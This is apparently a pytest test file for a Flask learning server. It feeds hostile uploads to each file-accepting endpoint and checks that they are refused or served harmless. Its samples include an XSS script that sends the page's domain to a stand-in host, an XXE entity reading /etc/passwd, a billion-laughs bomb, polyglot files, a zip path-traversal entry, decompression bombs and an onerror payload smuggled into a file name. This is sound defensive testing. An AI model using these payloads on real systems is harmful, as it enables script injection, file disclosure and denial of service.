"""Hostile files at every door that takes files: none is a fault, none keeps the server busy, and nothing of it runs."""

import hashlib
import io
import struct
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from PIL import Image
from sqlalchemy.orm import Session
from werkzeug.test import TestResponse

from server.badges.models import Achievement
from server.core.answers import SHOWN
from server.core.limits import limiter
from tests.awarding.conftest import guide
from tests.cast import NOON, Museum
from tests.learning.walk import picture
from tests.organisers.test_desk import sign_in
from tests.organisers.test_waiting import asking
from tests.phone import Phone
from tests.portfolio.test_imports import call

__all__ = ["asking", "guide"]
pytestmark = pytest.mark.parametrize("config", ["sqlite"], indirect=True)
SCRIPT = b"<script>fetch('//elsewhere.example/'+document.domain)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script><foreignObject>" + SCRIPT + b"</foreignObject></svg>"  # fmt: skip
SOUNDS = Path(__file__).parents[1] / "replicas" / "sounds"
PLACE = (52.3676, 4.9041)
SECONDS = 5.0
"""The longest that one of them may take, on a machine that does other things too."""


def _photo_with_a_place() -> bytes:
    exif = Image.Exif()
    degrees = [(one, 0.0, 0.0) for one in PLACE]
    exif.get_ifd(0x8825).update({1: "N", 2: degrees[0], 3: "E", 4: degrees[1], 29: "2026:05:30"})
    exif[0x010E], exif[0x013B] = "Ada at home " + SCRIPT.decode(), "Ada"
    return picture(exif=exif)


def _pixels(width: int, height: int) -> bytes:
    """A whole and honest PNG of that many pixels, all black: it packs to nearly nothing."""
    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, "PNG")
    return out.getvalue()


def _png_with(*more: tuple[bytes, bytes]) -> bytes:
    """A picture with chunks of ours before its end."""
    whole = picture(format="PNG")
    chunks = [struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in more]  # fmt: skip
    return whole[:-12] + b"".join(chunks) + whole[-12:]


def _zip(*parts: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts:
            packed.writestr(name, content)
    return out.getvalue()


def _film(format: str) -> bytes:
    """Two thousand small frames of nothing."""
    out = io.BytesIO()
    frames = [Image.new("P", (8, 8), one % 2) for one in range(2_000)]
    frames[0].save(out, format, save_all=True, append_images=frames[1:])
    return out.getvalue()


def _laughs() -> bytes:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "lol">{lines}]><svg xmlns="http://www.w3.org/2000/svg">&l9;</svg>'.encode()


FILES: dict[str, Callable[[], bytes]] = {
    "a drawing that runs": lambda: SVG,
    "a drawing that names our files": lambda: b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    "a drawing that grows": _laughs,
    "a page": lambda: HTML,
    "a page behind a picture": lambda: picture() + HTML,
    "a page inside a picture": lambda: _png_with((b"tEXt", b"Comment\0" + HTML), (b"eXIf", HTML), (b"iCCP", HTML)),
    "a script that is a GIF": lambda: b"GIF89a/*" + picture(format="GIF")[6:] + b"*/=1;alert(1)",
    "a paper that is an archive": lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n" + _zip(("x.html", HTML)),
    "a picture that is an archive": lambda: picture() + _zip(("x.html", HTML)),
    "a photo with its place": _photo_with_a_place,
    "a hundred megapixels": lambda: _pixels(10_000, 10_000),
    "a line two thousand million long": lambda: _pixels(1, 1)[:16] + struct.pack(">II", 2**31 - 1, 1) + _pixels(1, 1)[24:],
    "an archive that grows": lambda: _zip(("xl/workbook.xml", b"<x>" + b"0" * (90 << 20))),
    "an archive of many": lambda: _zip(*((f"xl/{n}.xml", b"<x/>") for n in range(1_500))),
    "an archive that climbs": lambda: _zip(("../../secrets/anchor", b"x"), ("[Content_Types].xml", b"<Types/>")),
    "a film of two thousand pictures": lambda: _film("GIF"),
    "a sound with a page in it": lambda: (SOUNDS / "sound.wav").read_bytes() + b"LIST" + struct.pack("<I", len(HTML) + len(HTML) % 2) + HTML + b"\0" * (len(HTML) % 2),
    "a sound with a page before it": lambda: b"ID3\x03\0\0\0\0\x02\x01" + HTML.ljust(257, b" ")[:257] + (SOUNDS / "sound.mp3").read_bytes(),
    "a program": lambda: b"\x7fELF\x02\x01\x01" + bytes(300),
    "nothing much": lambda: b"\0",
}  # fmt: skip


@pytest.fixture(scope="module")
def files() -> dict[str, bytes]:
    """Made once: some take longer to make than to refuse."""
    return {name: make() for name, make in FILES.items()}


@pytest.fixture(autouse=True)
def no_limits(app: Flask) -> Iterator[None]:
    limiter.enabled = False
    yield
    limiter.enabled = True


def timed(name: str, act: Callable[[], TestResponse]) -> TestResponse:
    """Do it, and fail when it was a fault or took long."""
    began = time.monotonic()
    answer = act()
    assert answer.status_code < 500, (name, answer.text[:200])
    assert time.monotonic() - began < SECONDS, name
    return answer


PICTURES = {
    "a page behind a picture",
    "a page inside a picture",
    "a picture that is an archive",
    "a photo with its place",
}
SOUNDS_TAKEN = {"a sound with a page in it"}


@pytest.mark.parametrize(
    ("mime", "kind", "taken"), [("image/jpeg", "photo", PICTURES), ("audio/mpeg", "audio", SOUNDS_TAKEN)]
)
def test_what_is_handed_in_comes_back_harmless_or_not_at_all(
    app: Flask, client: FlaskClient, db: Session, asking: Museum, files: dict[str, bytes],
    mime: str, kind: str, taken: set[str],
) -> None:  # fmt: skip
    """As evidence: whatever its phone says that it is. What reviewers see holds nothing but the picture or the sound."""
    asking.task(2, "photo").kind = kind
    db.commit()
    task, shown = asking.task(2, kind), {}
    for name, content in files.items():
        ada = Phone(app, at=NOON)
        event = ada.hand_in(task, content, mime=mime)
        ada.sync()
        timed(name, lambda ada=ada, content=content: ada.upload(content))  # type: ignore[misc]
        ada.sync()
        shown[name] = f"/desk/waiting/{ada.learner}/{event}/{hashlib.sha256(content).hexdigest()}"
    sign_in(client, db, asking.omar)
    given = {name: client.get(path) for name, path in shown.items()}
    seen = {name for name, answer in given.items() if answer.status_code == 200}
    assert seen == taken
    for name in seen:
        check_harmless(given[name])


def check_harmless(answer: TestResponse) -> None:
    """Nothing of it runs, wherever it is opened, and nothing rides along."""
    assert b"<script" not in answer.data and b"alert" not in answer.data and b"PK\x03\x04" not in answer.data
    assert b"Exif" not in answer.data and b"Ada" not in answer.data
    assert answer.mimetype in SHOWN
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    policy = answer.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "sandbox" in policy


def test_what_is_handed_in_by_pieces_is_looked_at_too(
    app: Flask, museum: Museum, files: dict[str, bytes]
) -> None:
    ada = Phone(app, at=NOON)
    ada.hand_in(
        museum.task(2, "photo"),
        *(files[one] for one in ("a page", "a drawing that runs", "a hundred megapixels")),
    )
    ada.sync()
    for name in ("a page", "a drawing that runs", "a hundred megapixels"):
        timed(name, lambda name=name: ada.send_pieces(files[name], piece=4096))  # type: ignore[misc]
    assert not [one for one in app.config["STREETWISE"].instance.rglob("evidence/*/*") if one.is_file()]


def test_no_hostile_file_is_a_badge(client: FlaskClient, museum: Museum, files: dict[str, bytes]) -> None:
    for name, content in files.items():
        form = {"file": (io.BytesIO(content), "badge.png")}
        answer = timed(
            name, lambda form=form: client.post("/verify", data=form, content_type="multipart/form-data")
        )  # type: ignore[misc]
        assert 'data-verdict="ok"' not in answer.text and SCRIPT.decode() not in answer.text, name


def test_no_hostile_file_is_brought_in(app: Flask, museum: Museum, files: dict[str, bytes]) -> None:
    ada = Phone(app)
    ada.hello()
    ada.sync()
    for name, content in files.items():
        answer = timed(name, lambda content=content: call(ada, "POST", "/api/imports", content))  # type: ignore[misc]
        assert answer.status_code in (413, 422), name


def test_no_hostile_file_is_a_list(
    client: FlaskClient, db: Session, museum: Museum, guide: Achievement, files: dict[str, bytes]
) -> None:
    """What reads as a table of words is shown as words."""
    sign_in(client, db, museum.omar)
    for name, content in files.items():
        form = {"file": (io.BytesIO(content), f"<img src=x onerror=alert(1)>{name}.xlsx")}
        answer = timed(name, lambda form=form: client.post(f"/desk/town-museum/badges/{guide.series}/award/lists", data=form, content_type="multipart/form-data"))  # type: ignore[misc]  # fmt: skip
        assert answer.status_code in (303, 413, 422), name
        page = client.get(answer.headers["Location"]) if answer.status_code == 303 else answer
        assert "<img src=x" not in page.text and SCRIPT.decode() not in page.text, name


def test_every_door_for_files_is_tried_here() -> None:
    """A new one reads a file or the bytes of a request, and stands in this list when it is tried above."""
    doors = {
        "badges/check_routes.py",
        "replicas/routes.py",
        "awarding/desk/lists.py",
        "portfolio/import_routes.py",
    }
    server = Path(__file__).parents[2] / "server"
    found = {
        str(path.relative_to(server))
        for path in server.rglob("*.py")
        if "request.files" in path.read_text() or "raw.get_data()" in path.read_text()
    }
    assert found == doors
